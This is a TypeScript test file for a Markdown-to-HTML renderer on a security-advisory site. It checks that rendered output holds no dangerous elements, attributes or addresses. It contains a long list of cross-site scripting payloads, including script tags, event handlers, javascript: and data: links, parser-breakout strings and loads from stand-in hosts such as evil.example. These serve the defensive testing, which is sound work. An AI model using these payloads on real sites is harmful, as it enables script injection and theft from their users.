// An HTML parser that is independent of the pipeline reads every output, as a browser would.

import fc from 'fast-check';
import { htmlToHast } from 'satteri';
import { describe, expect, test } from 'vitest';
import { runs } from '../property-runs.fixture.ts';
import { BODY } from '../testing/advisory.fixture.ts';
import { renderMarkdown } from './render.ts';

const BASE = 'https://security.orbital.example/advisories/ORB-2026-0003/';
const render = (markdown: string, options = {}): string =>
  renderMarkdown(markdown, { base: BASE, ...options });

interface Found {
  readonly name: string;
  readonly attributes: ReadonlyMap<string, string>;
}

/** Returns every element of an HTML text. */
function elementsOf(html: string): Found[] {
  return walk(htmlToHast(html, { fragment: true })).flatMap((node) => {
    if (node['type'] !== 'element') return [];
    const attributes = Object.entries(node['properties'] ?? {}).map(
      ([name, value]) => [name.toLowerCase(), String(value)] as const,
    );
    return [{ name: String(node['tagName']), attributes: new Map(attributes) }];
  });
}

/** Returns the text of an HTML text that a reader sees. */
function textOf(html: string): string {
  return walk(htmlToHast(html, { fragment: true }))
    .map((node) => (node['type'] === 'text' ? String(node['value']) : ''))
    .join('');
}

function walk(node: unknown): Record<string, unknown>[] {
  if (typeof node !== 'object' || node === null) return [];
  const children = 'children' in node && Array.isArray(node.children) ? node.children : [];
  return [{ ...node }, ...children.flatMap(walk)];
}

const HARMLESS =
  /^(p|br|hr|a|img|em|strong|del|code|pre|blockquote|ul|ol|li|h[2-6]|table|thead|tbody|tr|th|td|sup|section)$/;
const ATTRIBUTES = /^(href|rel|title|src|alt|id|class(name)?|start|aria-?label|aria-?describedby)$/;

/** Returns the dangers in an HTML text, in words. */
function dangersIn(html: string, idPrefix = 'text-'): string[] {
  return elementsOf(html).flatMap(({ name, attributes }) => [
    ...(HARMLESS.test(name) ? [] : [`<${name}>`]),
    ...[...attributes].flatMap(([attribute, value]) => {
      if (!ATTRIBUTES.test(attribute)) return [`${name} ${attribute}="${value}"`];
      if (attribute === 'href' && !/^(https?:\/\/|mailto:)/.test(value))
        return [`${name} href="${value}"`];
      if (attribute === 'src' && !value.startsWith('https://security.orbital.example/'))
        return [`${name} src="${value}"`];
      if (attribute === 'id' && !value.startsWith(idPrefix)) return [`${name} id="${value}"`];
      return [];
    }),
  ]);
}

describe('the detector of dangerous HTML', () => {
  test.each([
    '<script>alert(1)</script>',
    '<p onclick="alert(1)">x</p>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="/relative">x</a>',
    '<img src="https://evil.example/x.png">',
    '<p id="body">x</p>',
    '<svg><a href="https://a.example/"></a></svg>',
    '<p style="color:red">x</p>',
  ])('detects %s', (html) => {
    expect(dangersIn(html)).not.toEqual([]);
  });
});

const PAYLOADS: Readonly<Record<string, readonly string[]>> = {
  'elements that run code': [
    '<script>alert(1)</script>',
    '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
    '<script\n>alert(1)</script\n>',
    '<scr<script>ipt>alert(1)</scr</script>ipt>',
    '<script/xss src="https://evil.example/x.js"></script>',
    '<<script>alert(1);//<</script>',
    '<script>alert(1)',
    '&lt;script&gt;alert(1)&lt;/script&gt;',
    '\\<script>alert(1)</script>',
    '# <script>alert(1)</script>',
    '- <script>alert(1)</script>',
    '> <script>alert(1)</script>',
    '| a |\n|---|\n| <script>alert(1)</script> |',
    '[^1]\n\n[^1]: <script>alert(1)</script>',
  ],
  'event handlers': [
    '<img src=x onerror=alert(1)>',
    '<img src="x" onerror="alert(1)">',
    '<body onload=alert(1)>',
    '<svg onload=alert(1)>',
    '<svg/onload=alert(1)>',
    '<details open ontoggle=alert(1)>',
    '<input autofocus onfocus=alert(1)>',
    '<video><source onerror=alert(1)></video>',
    '<marquee onstart=alert(1)>',
    '<div onmouseover="alert(1)">hover</div>',
    '![x](x "onerror=alert(1)")',
    '![x" onerror="alert(1)](x)',
    '![x](https://security.orbital.example/x" onerror="alert(1))',
    '[x](https://a.example/ "t" onclick="alert(1)")',
    '[x](https://a.example/"onclick="alert\\(1\\))',
    '<https://a.example/"onclick="alert(1)>',
  ],
  'addresses that run code': [
    '[x](javascript:alert(1))',
    '[x](JaVaScRiPt:alert(1))',
    '[x](java\tscript:alert(1))',
    '[x](<java\nscript:alert(1)>)',
    '[x](java&#x09;script:alert(1))',
    '[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;:alert(1))',
    '[x](javascript&colon;alert(1))',
    '[x](&#1;javascript:alert(1))',
    '[x](\u0001javascript:alert(1))',
    '[x](%6A%61vascript:alert(1))',
    '[x](javascript://https://a.example/%0aalert(1))',
    '[x](vbscript:msgbox(1))',
    '[x](data:text/html,<script>alert(1)</script>)',
    '[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
    '[x](blob:https://security.orbital.example/1)',
    '[x](file:///etc/passwd)',
    '[x](filesystem:https://a.example/x)',
    '[x](view-source:https://a.example/)',
    '<javascript:alert(1)>',
    '<data:text/html,alert(1)>',
    '[x][y]\n\n[y]: javascript:alert(1)',
    '[javascript:alert(1)]\n\n[javascript:alert(1)]: javascript:alert(1)',
    '![x](javascript:alert(1))',
    '![x](data:image/svg+xml,<svg onload=alert(1)>)',
    '![x][y]\n\n[y]: data:text/html,x',
    '[![x](javascript:alert(1))](javascript:alert(1))',
    '[^1]\n\n[^1]: [x](javascript:alert(1))',
    'https://a.example/javascript:alert(1)',
  ],
  'elements that load, embed or restyle': [
    '<iframe src="https://evil.example/"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<object data="data:text/html,x"></object>',
    '<embed src="https://evil.example/x.swf">',
    '<base href="https://evil.example/">',
    '<link rel=stylesheet href=https://evil.example/x.css>',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<style>@import "https://evil.example/x.css"</style>',
    '<p style="position:fixed;inset:0">over everything</p>',
    '<form action="https://evil.example/"><input name=q><button>go</button></form>',
    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
    '<template><script>alert(1)</script></template>',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<textarea><img src=x onerror=alert(1)></textarea>',
    '![x](https://evil.example/track.gif)',
  ],
  'names that take the place of others': [
    '<a id="body">x</a><a name="forms">y</a>',
    '<form name="cookie"></form>',
    '# __proto__',
    '# constructor',
    '# body',
    'x[^body]\n\n[^body]: y',
    'x[^__proto__]\n\n[^__proto__]: y',
  ],
  'breaking out': [
    '`</code><script>alert(1)</script>`',
    '```\n</code></pre><script>alert(1)</script>\n```',
    '```"><script>alert(1)</script>\nx\n```',
    '``` x" onmouseover="alert(1)\nx\n```',
    '<!-- --><script>alert(1)</script>',
    '<!--><script>alert(1)</script>-->',
    '<![CDATA[<script>alert(1)</script>]]>',
    '<?xml version="1.0"?><script>alert(1)</script>',
    '<!DOCTYPE html><script>alert(1)</script>',
    ']]><script>alert(1)</script>',
    '[x]("><script>alert(1)</script>)',
    '![x]("><script>alert(1)</script>)',
    '[x](<"><script>alert(1)</script>>)',
    '\u0000<script>alert(1)</script>',
    '\ud800<script>alert(1)</script>',
  ],
};

describe.each(Object.entries(PAYLOADS))('rendered Markdown is harmless: %s', (_, payloads) => {
  test.each(payloads)('%j', (payload) => {
    for (const markdown of [payload, `text ${payload} text`, `## Impact\n\n${payload}\n\nEnd.`])
      expect(dangersIn(render(markdown))).toEqual([]);
  });
});

test('the list of payloads has at least 60', () => {
  expect(Object.values(PAYLOADS).flat().length).toBeGreaterThanOrEqual(60);
});

test('rendered Markdown is harmless for any combination of payloads', () => {
  const pieces = [
    ...[
      '<',
      '>',
      '"',
      "'",
      '&',
      '`',
      '```\n',
      '*',
      '**',
      '_',
      '[',
      ']',
      '(',
      ')',
      '!',
      '\n',
      '\n\n',
      ' ',
      '\t',
      '|',
      '\n|-|\n',
      '# ',
      '- ',
      '> ',
    ],
    ...[
      '<script>',
      '</script>',
      '<img src=x onerror=alert(1)>',
      'javascript:',
      'data:',
      'https://a.example/',
      '[^1]',
      '\n[^1]: ',
      '<!--',
      '-->',
    ],
    ...[
      '[x]: ',
      '&#x6a;',
      '&lt;',
      '\\',
      '\u0000',
      '\ud800',
      '\u202e',
      'id=',
      'onclick=',
      'www.a.example',
      '<a href="',
      '[x](',
      '![y](',
    ],
  ];
  fc.assert(
    fc.property(fc.array(fc.constantFrom(...pieces), { maxLength: 30 }), (parts) => {
      expect(dangersIn(render(parts.join('')))).toEqual([]);
    }),
    { numRuns: runs(2000) },
  );
});

describe('raw HTML', () => {
  test('is shown as text, so that nothing is lost', () => {
    expect(textOf(render('A <b onclick="x">bold</b> word.'))).toBe(
      'A <b onclick="x">bold</b> word.',
    );
    expect(textOf(render('<details>\n<summary>More</summary>\n</details>'))).toBe(
      '<details>\n<summary>More</summary>\n</details>',
    );
  });

  test('is dropped in comments and kept in code', () => {
    expect(render('<!-- for the team -->\n\nText<!-- x -->.')).toBe('<p>Text.</p>');
    expect(textOf(render('`<!-- code -->`'))).toBe('<!-- code -->');
  });

  test('does not drop the rest of the text if a comment has no end', () => {
    expect(textOf(render('<!-- open\n\nImportant.'))).toContain('Important.');
  });
});

describe('addresses', () => {
  test('are resolved against the page', () => {
    const html = render(
      '[a](../ORB-2026-0001/) [b](/report/) [c](?x=1&y=2) ![d](/logo.png) [e](mailto:a@b.example)',
    );
    const found = elementsOf(html).flatMap(
      ({ attributes }) => attributes.get('href') ?? attributes.get('src') ?? [],
    );
    expect(found).toEqual([
      'https://security.orbital.example/advisories/ORB-2026-0001/',
      'https://security.orbital.example/report/',
      'https://security.orbital.example/advisories/ORB-2026-0003/?x=1&y=2',
      'https://security.orbital.example/logo.png',
      'mailto:a@b.example',
    ]);
  });

  test('of other sites are nofollow and noopener', () => {
    expect(render('[x](https://a.example/)')).toBe(
      '<p><a href="https://a.example/" rel="nofollow noopener">x</a></p>',
    );
    expect(render('[x](//a.example/)')).toContain(
      'href="https://a.example/" rel="nofollow noopener"',
    );
    expect(render('[x](/y)')).not.toContain('rel=');
    expect(render('[x](https://security.orbital.example.evil.example/)')).toContain('rel=');
  });

  test('that cannot be published become their text', () => {
    expect(render('[the *text*](javascript:alert(1))')).toBe('<p>the <em>text</em></p>');
    expect(render('![the text](data:image/png;base64,x)')).toBe('<p>the text</p>');
    expect(render('[empty]()')).toBe('<p>empty</p>');
  });

  test('of foreign images become links with their text, or with the address', () => {
    const link = '<a href="https://a.example/x.png" rel="nofollow noopener">';
    expect(render('![Diagram](https://a.example/x.png)')).toBe(`<p>${link}Diagram</a></p>`);
    expect(render('![](https://a.example/x.png)')).toBe(
      `<p>${link}https://a.example/x.png</a></p>`,
    );
    expect(render('[![Badge](https://a.example/x.png)](https://b.example/)')).toBe(
      '<p><a href="https://b.example/" rel="nofollow noopener">Badge</a></p>',
    );
  });
});

describe("GitHub's extensions", () => {
  test('tables, with their alignment as a class', () => {
    const html = render('| a | b |\n|:--|--:|\n| 1 | `x|y` |');
    expect(html).toContain('<th class="align-left">a</th>');
    expect(html).toContain('<td class="align-left">1</td>');
    expect(html).not.toContain(' align=');
  });

  test('strikethrough, bare links, task lists without form controls', () => {
    expect(render('~~old~~')).toBe('<p><del>old</del></p>');
    expect(render('see www.a.example and a@b.example')).toContain('href="http://www.a.example/"');
    expect(render('- [x] done\n- [ ] open')).toBe(
      '<ul class="contains-task-list">\n<li class="task-list-item">☑ done</li>\n<li class="task-list-item">☐ open</li>\n</ul>',
    );
  });

  test('footnotes, whose links match their ids', () => {
    const html = render('One[^a]. Two[^a]. Three[^B-c].\n\n[^a]: First.\n\n[^B-c]: Second.', {
      idPrefix: 'orb-1-',
    });
    expect(dangersIn(html, 'orb-1-')).toEqual([]);
    const ids = elementsOf(html).flatMap(({ attributes }) => attributes.get('id') ?? []);
    expect(new Set(ids).size).toBe(ids.length);
    const targets = [...html.matchAll(/href="([^"]+)"/g)].map(([, href = '']) => new URL(href));
    expect(targets.length).toBeGreaterThanOrEqual(4);
    for (const { href, hash } of targets) {
      expect(href.startsWith(BASE)).toBe(true);
      expect(ids).toContain(hash.slice(1));
    }
    expect(
      elementsOf(html).some(
        ({ name, attributes }) => name === 'h2' && attributes.get('id') === 'orb-1-footnote-label',
      ),
    ).toBe(true);
  });
});

test('a link is never inside another', () => {
  const html = render(
    '[a[^1] ![b](https://b.example/b.png) www.c.example](https://a.example/)\n\n[^1]: Note.',
  );
  expect(html).toContain(
    '<p><a href="https://a.example/" rel="nofollow noopener">a<sup id="text-fnref-1">1</sup> b www.c.example</a></p>',
  );
  expect(html).toContain('#text-fnref-1"');
});

describe('headings', () => {
  const levels = (html: string): string[] =>
    elementsOf(html).map(({ name, attributes }) => `${name} ${attributes.get('id')}`);

  test('are moved down, and are never above h2 or below h6', () => {
    expect(levels(render('# A\n\n## B\n\n###### C'))).toEqual([
      'h2 text-a',
      'h2 text-b',
      'h6 text-c',
    ]);
    expect(levels(render('## B\n\n### C\n\n###### D', { headingShift: 1 }))).toEqual([
      'h3 text-b',
      'h4 text-c',
      'h6 text-d',
    ]);
  });

  test('have unique ids made from their text', () => {
    expect(
      levels(
        render('## Am I affected?\n\n## Am I affected?\n\n## Über *uns*\n\n## !', {
          idPrefix: 'a-',
        }),
      ),
    ).toEqual([
      'h2 a-am-i-affected',
      'h2 a-am-i-affected-2',
      'h2 a-über-uns',
      'em undefined',
      'h2 a-section',
    ]);
  });

  test('are the target of a link to a fragment, if the text has them', () => {
    expect(render('## Impact\n\n[up](#impact)')).toContain(`href="${BASE}#text-impact"`);
    expect(render('[out](#elsewhere)')).toContain(`href="${BASE}#elsewhere"`);
  });
});

test('a prefix that does not separate ids from names is rejected', () => {
  for (const idPrefix of ['', 'text', '-', 'a b-', '"-', '1-'])
    expect(() => render('x', { idPrefix })).toThrow(RangeError);
  expect(() => renderMarkdown('x', { base: '/relative/' })).toThrow(TypeError);
});

test('a text is rendered once for the same options', () => {
  const first = render(BODY);
  const store: unknown = Reflect.get(globalThis, Symbol.for('candor.markdown'));
  expect(store).toHaveProperty('entries');
  expect(render(BODY)).toBe(first);
  expect(render(BODY, { headingShift: 1 })).not.toBe(first);
  expect(render(BODY, { idPrefix: 'other-' })).not.toBe(first);
  const text = 'A text that is in no other test.';
  const size = (): unknown =>
    typeof store === 'object' && store !== null && Reflect.get(store, 'size');
  const before = size();
  render(text);
  const after = size();
  render(text);
  expect(after).toBeGreaterThan(Number(before));
  expect(size()).toBe(after);
});
